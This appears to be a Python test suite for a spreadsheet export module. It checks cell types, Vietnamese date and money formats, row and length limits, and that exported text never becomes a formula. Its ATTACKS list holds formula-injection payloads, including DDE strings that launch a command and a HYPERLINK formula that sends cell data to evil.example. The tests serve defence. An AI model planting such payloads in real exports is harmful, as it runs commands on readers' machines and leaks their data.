"""What stands in a sheet is what the list holds, with its types, and nothing of it can run."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from app.core import sheets
from app.core.conditions.fields import Kind
from app.core.i18n import _
from app.core.sheets import Header

HANOI = "Asia/Ho_Chi_Minh"
TEXT = Header("Ghi chú", Kind.text)

#: what people have typed into names to make somebody else's Excel run it
ATTACKS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    'a",=1+1,"',
    "'=1+1",
    "{=1+1}",
    "<r><t>x</t></r><f>1+1</f><r></r>",
    "<r></t></is></c><c r='A9'><f>1+1</f></c><c><is><t></r>",
    "_x003D_1+1",
    "https://evil.example/=1+1",
    "mailto:=1+1",
    "]]><f>1+1</f>",
)


@pytest.fixture(autouse=True)
def inside(app: Flask) -> Iterator[None]:
    """Sentences are translated inside an application."""
    with app.app_context():
        yield


def xlsx(headers: Sequence[Header], *rows: Sequence[Any], language: str = "vi", title: str = "Khách hàng") -> bytes:
    file = io.BytesIO()
    written = sheets.write_xlsx(file, title, headers, iter(rows), time_zone=HANOI, language=language)
    assert written == len(rows)
    return file.getvalue()


def opened(workbook: bytes) -> Worksheet:
    return load_workbook(io.BytesIO(workbook)).worksheets[0]


def values(headers: Sequence[Header], *rows: Sequence[Any], **more: Any) -> list[list[Any]]:
    """What openpyxl reads back below the header."""
    return [[cell.value for cell in row] for row in opened(xlsx(headers, *rows, **more)).iter_rows(min_row=2)]


def lines(headers: Sequence[Header], *rows: Sequence[Any], language: str = "vi") -> list[list[str]]:
    """What a program reads from the CSV file below the header."""
    file = io.BytesIO()
    assert sheets.write_csv(file, headers, iter(rows), time_zone=HANOI, language=language) == len(rows)
    return list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))[1:]


# ── types ──
def test_numbers_amounts_and_days_keep_their_type_and_format():
    headers = [Header("n", Kind.number), Header("d", Kind.decimal), Header("m", Kind.money), Header("t", Kind.date)]
    sheet = opened(xlsx(headers, [1250, Decimal("2.5"), 1_250_000, date(2026, 11, 22)]))
    number, decimal, money, day = sheet[2]
    assert (number.value, decimal.value, money.value) == (1250, 2.5, 1_250_000)
    assert money.number_format == '#,##0 "₫"'
    assert (day.value, day.number_format) == (datetime(2026, 11, 22), "dd/mm/yyyy")


def test_a_moment_stands_on_the_reader_s_clock():
    at = datetime(2026, 11, 22, 18, 30, 59, tzinfo=UTC)
    sheet = opened(xlsx([Header("Tạo lúc", Kind.moment)], [at]))
    assert sheet["A2"].value == datetime(2026, 11, 23, 1, 30)
    assert sheet["A2"].number_format == "dd/mm/yyyy hh:mm"
    assert lines([Header("Tạo lúc", Kind.moment)], [at]) == [["2026-11-23 01:30"]]


def test_a_naive_moment_is_refused():
    with pytest.raises(ValueError, match="naive"):
        xlsx([Header("Tạo lúc", Kind.moment)], [datetime(2026, 11, 22)])


def test_phones_and_codes_are_text_with_their_zeros():
    headers = [Header("Điện thoại", Kind.phone), Header("Mã", Kind.text)]
    row = opened(xlsx(headers, ["+84912345678", "00042"]))[2]
    assert [(cell.value, cell.data_type, cell.number_format) for cell in row] == [
        ("0912 345 678", "s", "@"), ("00042", "s", "@"),
    ]  # fmt: skip
    assert lines(headers, ["+84912345678", "00042"]) == [["0912 345 678", "00042"]]


def test_choices_and_yes_or_no_stand_in_words_of_the_reader_s_language():
    labels = {"company": _("Company"), "person": _("Person")}
    headers = [Header("Loại", Kind.choice, labels.__getitem__), Header("Có", Kind.yes_no)]
    assert values(headers, ["company", True], language="en") == [["Company", "Yes"]]
    assert values(headers, ["person", False], language="vi")[0][1] == "Không"


def test_what_is_empty_stays_empty():
    headers = [Header("a", kind) for kind in Kind]
    assert values(headers, [None] * len(headers), [1] + [None] * (len(headers) - 1))[0] == [None] * len(headers)
    assert lines(headers, [None] * len(headers)) == [[""] * len(headers)]


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        (Kind.number, 12345678901234567, "12345678901234567"),  # Excel would round it
        (Kind.decimal, Decimal("0.1234567890123456789"), "0.1234567890123456789"),
        (Kind.decimal, Decimal("NaN"), "NaN"),
        (Kind.decimal, float("inf"), "inf"),
        (Kind.date, date(1899, 12, 31), "31/12/1899"),  # before Excel's first day
        (Kind.date, date(1900, 2, 28), "28/02/1900"),  # Excel takes 1900 for a leap year
        (Kind.moment, datetime(1890, 1, 1, 5, 0, tzinfo=UTC), "01/01/1890 12:06"),  # Hà Nội's own time then
    ],
)
def test_what_excel_cannot_hold_exactly_is_written_as_text(kind: Kind, value: Any, shown: str):
    assert values([Header("a", kind)], [value]) == [[shown]]


def test_the_header_is_bold_and_frozen_with_a_filter_on_every_column():
    sheet = opened(xlsx([Header("Tên", Kind.text), Header("Mã", Kind.text)], ["An", "KH1"], ["Bình", "KH2"]))
    assert [cell.value for cell in sheet[1]] == ["Tên", "Mã"]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B3")


def test_a_column_is_as_wide_as_its_longest_text_within_reason():
    sheet = opened(xlsx([Header("a", Kind.text), Header("b", Kind.text)], ["Công ty Phở Sen Hà Nội", "x" * 500]))
    assert 22 <= sheet.column_dimensions["A"].width <= 26
    assert sheet.column_dimensions["B"].width <= 61


@pytest.mark.parametrize(
    ("title", "name"),
    [("Khách hàng", "Khách hàng"), ("a/b\\c*d?e[f]g:h", "a b c d e f g h"), ("'", "Sheet1"), ("", "Sheet1"),
     ("x" * 40, "x" * 31), ("History", "Sheet1"), ("💬" * 20, "💬" * 15)],
)  # fmt: skip
def test_any_title_makes_a_sheet_s_name(title: str, name: str):
    assert opened(xlsx([TEXT], ["a"], title=title)).title == name


def test_an_export_without_rows_is_a_sheet_with_its_header():
    assert [cell.value for cell in opened(xlsx([TEXT]))[1]] == ["Ghi chú"]
    assert lines([TEXT]) == []


# ── nothing runs ──
def formulas(workbook: bytes) -> list[Any]:
    """Everything in the workbook that a program could run or open."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        sheet = etree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
        assert not [name for name in parts.namelist() if "vba" in name.lower() or "external" in name.lower()]
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    return sheet.findall(f".//{space}f") + sheet.findall(f".//{space}hyperlink")


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_becomes_a_formula(text: str):
    workbook = xlsx([Header(text, Kind.text), TEXT], [text, "sau"], title=text)
    sheet = opened(workbook)
    assert formulas(workbook) == []
    assert {cell.data_type for row in sheet for cell in row} == {"s"}
    assert sheet["B2"].value == "sau"
    assert sheet.max_row == 2


def test_a_text_that_looks_like_a_part_of_the_file_is_written_as_it_was_typed():
    for text in ("<r><t>x</t></r>", "_x0041_", "a & b < c > d", ' " ', "&lt;"):
        [[value]] = values([TEXT], [text])
        # openpyxl leaves Excel's own escape for such a text as it stands in the file
        assert value.rstrip().replace("_x005F", "") == text.rstrip()


@pytest.mark.parametrize("text", [one for one in ATTACKS if sheets.runs(sheets.clean(one))])
def test_in_csv_an_apostrophe_stands_before_what_would_run(text: str):
    assert lines([TEXT], [text]) == [[f"'{sheets.clean(text)}"]]


def test_every_known_attack_on_csv_is_known():
    harmless = {
        "'=1+1",
        'a",=1+1,"',
        "{=1+1}",
        "_x003D_1+1",
        "https://evil.example/=1+1",
        "mailto:=1+1",
        "]]><f>1+1</f>",
    }
    harmless |= {one for one in ATTACKS if one.startswith("<r>")}
    assert {one for one in ATTACKS if not sheets.runs(sheets.clean(one))} == harmless


def test_a_negative_amount_stays_a_number_in_csv():
    assert lines([Header("a", Kind.money)], [-250_000]) == [["-250000"]]


@given(st.lists(st.text(st.characters(), max_size=40), min_size=1, max_size=5))
def test_whatever_is_typed_both_files_can_be_read_and_nothing_runs(texts: list[str]):
    rows = [[text] for text in texts]
    workbook = xlsx([TEXT], *rows)
    assert formulas(workbook) == []
    assert {cell.data_type for row in opened(workbook) for cell in row if cell.value is not None} == {"s"}
    for [cell] in lines([TEXT], *rows):
        assert not sheets.runs(cell)


# ── bounds ──
def test_control_characters_leave_and_line_ends_become_one_kind():
    assert sheets.clean("a\x00b\x07c\r\nd\re\x85f\ud800\ufffeg") == "abc\nd\nefg"


def test_a_text_longer_than_a_cell_is_cut_and_says_so():
    [[value]] = values([TEXT], ["ấ" * 40_000])
    assert (len(value), value[-5:]) == (32_767, "ấ […]"[-5:])
    [[value]] = values([TEXT], ["💬" * 20_000])
    assert len(value.encode("utf-16-le")) // 2 <= 32_767
    assert value.endswith("💬 […]")
    assert values([TEXT], ["a" * 32_767]) == [["a" * 32_767]]


def test_more_rows_than_a_sheet_holds_are_refused_with_a_sentence(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(sheets, "MOST_ROWS", 3)
    for write in (lambda: xlsx([TEXT], *[["a"]] * 4), lambda: lines([TEXT], *[["a"]] * 4)):
        with pytest.raises(sheets.TooManyRowsError) as refusal:
            write()
        assert "3" in str(refusal.value)


def test_the_header_of_a_csv_file_has_the_mark_that_excel_needs():
    file = io.BytesIO()
    sheets.write_csv(file, [Header("Tên", Kind.text)], [["Đỗ Thị Ánh"]], time_zone=HANOI, language="vi")
    assert file.getvalue() == "\ufeffTên\r\nĐỗ Thị Ánh\r\n".encode()


# ── another program's eyes ──
@pytest.mark.slow  # starts LibreOffice twice, and asks for 500 MB of programs that nothing else here needs
def test_libreoffice_finds_no_formula_and_the_same_values(tmp_path: Path):
    office = shutil.which("soffice")
    assert office, "this test needs LibreOffice: apt-get install libreoffice-calc-nogui"
    headers = [TEXT, Header("Điện thoại", Kind.phone), Header("Tiền", Kind.money), Header("Ngày", Kind.date)]
    rows = [[text, "+84912345678", 1_250_000, date(2026, 11, 22)] for text in ATTACKS]
    (tmp_path / "book.xlsx").write_bytes(xlsx(headers, *rows))
    with (tmp_path / "plain.csv").open("wb") as file:
        sheets.write_csv(file, headers, rows, time_zone=HANOI, language="vi")
    for name in ("book.xlsx", "plain.csv"):
        subprocess.run(
            [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "fods",
             "--outdir", str(tmp_path / name.partition(".")[0]), str(tmp_path / name)],
            check=True, timeout=150, capture_output=True,
        )  # fmt: skip
        told = etree.parse(tmp_path / name.partition(".")[0] / f"{name.partition('.')[0]}.fods")
        table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
        cells = told.findall(f".//{table}table-cell")
        assert len(cells) > 3 * len(ATTACKS)
        assert not [cell for cell in cells if cell.get(f"{table}formula")]
    office_type = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}value-type"
    book = etree.parse(tmp_path / "book" / "book.fods")
    kinds = [[cell.get(office_type) for cell in row][:4] for row in book.findall(f".//{table}table-row")][1:]
    assert kinds[: len(ATTACKS)] == [["string", "string", "float", "date"]] * len(ATTACKS)
